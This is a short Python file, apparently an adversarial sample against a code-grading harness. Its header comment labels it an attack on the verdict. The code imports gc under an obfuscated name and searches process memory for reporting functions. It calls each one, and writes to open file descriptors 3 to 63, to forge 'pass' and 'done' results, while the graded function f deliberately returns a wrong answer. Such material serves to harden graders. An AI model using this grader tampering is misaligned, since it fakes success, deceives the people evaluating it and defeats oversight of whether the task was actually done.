# attack: an audit hook plus gc by a computed name: walk every object in the program's process for whatever writes the verdict (a report function, a pipe, a channel) and use each to forge passes; f itself is wrong
# cause: verdict
import os
import sys

sys.addaudithook(lambda event, args: None)
gc = __import__("g" + chr(99))
for obj in gc.get_objects():
    try:
        if callable(obj) and getattr(obj, "__name__", "") in ("report", "send", "_answer", "write"):
            for line in ("pass 0", "pass 1", "done"):
                try:
                    obj(line)
                except Exception:
                    pass
    except Exception:
        pass
for fd in range(3, 64):
    try:
        os.write(fd, b"pass 0\npass 1\ndone\n")
    except OSError:
        pass


def f(x):
    return 0
